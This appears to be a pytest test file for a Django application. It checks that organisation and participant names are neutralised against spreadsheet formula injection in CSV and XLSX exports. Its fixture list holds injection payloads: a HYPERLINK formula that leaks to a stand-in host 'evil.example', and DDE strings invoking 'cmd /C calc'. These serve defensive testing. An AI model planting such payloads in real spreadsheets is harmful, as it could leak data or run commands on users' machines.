"""Every spreadsheet we hand out goes through iomcso.core.spreadsheets.neutralise_cell:
hostile names come out as text (never a formula) without control characters, and never
break an export."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from consultations.models import Registration
from iomcso.core.spreadsheets import neutralise_cell
from observers import services as observer_services
from observers.models import EligibilityReport, ReportKind
from partners.resources import OrganizationResource
from tests.consultations.factories import ConsultationFactory, RegistrationFactory
from tests.factories import SuperUserFactory
from tests.observers.factories import reviewer
from tests.partners.factories import VerifiedOrganizationFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Click")'
HOSTILE = [
    HYPERLINK,
    "\x01"
    + HYPERLINK.replace("Click", "Open"),  # escaped, then stripped: was a formula again (finding 2)
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
    "  =1+4",
    "\uff1dHYPERLINK(1)",
    "Delegate\x02 with a control\x1f character",  # IllegalCharacterError before
    "\x0b\x0c=2+2",
]
FORMULA_TRIGGERS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("\x01" + HYPERLINK, "'" + HYPERLINK),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("  @x", "'  @x"),
        ("Caf\x07é\x7f", "Café"),
        ("Plain name", "Plain name"),
        ("multi\nline\ttext", "multi\nline\ttext"),
        ("", ""),
        (None, None),
        (42, 42),
        (-3.5, -3.5),
    ],
)
def test_neutralise_cell_cleans_then_turns_formulas_into_text(value, expected):
    assert neutralise_cell(value) == expected


def assert_safe(cell_value, original: str) -> None:
    text = str(cell_value)
    assert text == neutralise_cell(original), (original, text)
    assert not any(ord(char) < 32 and char not in "\t\n\r" for char in text), text
    assert not text.lstrip(" \t\r\n").startswith(FORMULA_TRIGGERS), text


def csv_column(content: bytes, column: int | str) -> list[str]:
    text = content.decode("utf-8-sig")
    if isinstance(column, str):
        return [row[column] for row in csv.DictReader(io.StringIO(text, newline=""))]
    return [row[column] for row in list(csv.reader(io.StringIO(text, newline="")))[1:]]


def xlsx_column(content: bytes, column: int | str) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    index = header.index(column) if isinstance(column, str) else column
    cells = [row[index] for row in rows[1:]]
    assert all(cell.data_type != "f" for cell in cells), [c.value for c in cells]
    # XML reads a carriage return back as a line feed; what matters is that it is text.
    return [
        str(cell.value).replace("\n", "\r") if str(cell.value).startswith("'\n") else cell.value
        for cell in cells
    ]


def organization_admin_export(client, file_format: str) -> list[str]:
    for name in HOSTILE:
        VerifiedOrganizationFactory(name=name)
    client.force_login(SuperUserFactory())
    fields = {
        f"organizationresource_{name}": "on" for name in OrganizationResource().get_export_order()
    }
    response = client.post(
        "/en/admin/partners/organization/export/",
        {"format": {"csv": 0, "xlsx": 1}[file_format], "resource": 0, **fields},
    )
    assert response.status_code == 200, response.content[:500]
    reader = csv_column if file_format == "csv" else xlsx_column
    return reader(response.content, "name")


def eligibility_report(client, file_format: str) -> list[str]:
    for name in HOSTILE:
        VerifiedOrganizationFactory(name=name)
    staff = reviewer()
    report = EligibilityReport.objects.create(
        kind=ReportKind.REGISTRY_SCREENING, requested_by=staff
    )
    assert observer_services.report_build(report_id=report.pk)
    client.force_login(staff)
    response = client.get(reverse("observers:report_download", args=[report.pk, file_format]))
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    reader = csv_column if file_format == "csv" else xlsx_column
    return reader(content, 1)


def participant_list(client, file_format: str) -> list[str]:
    consultation = ConsultationFactory()
    for name in HOSTILE:
        RegistrationFactory(
            consultation=consultation, full_name=name, status=Registration.Status.CONFIRMED
        )
    client.force_login(SuperUserFactory())
    response = client.get(
        reverse("admin:consultations_export", args=[consultation.pk, file_format])
    )
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    reader = csv_column if file_format == "csv" else xlsx_column
    return reader(content, 0)


EXPORTS = {
    "organization admin export": organization_admin_export,
    "eligibility report": eligibility_report,
    "participant list": participant_list,
}


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_hostile_names_come_out_of_every_export_as_plain_text(
    client, db, run_on_commit, export, file_format
):
    cells = EXPORTS[export](client, file_format)

    assert len(cells) == len(HOSTILE)
    by_expected = {neutralise_cell(value): value for value in HOSTILE}
    assert sorted(cells) == sorted(by_expected)
    for cell in cells:
        assert_safe(cell, by_expected[cell])
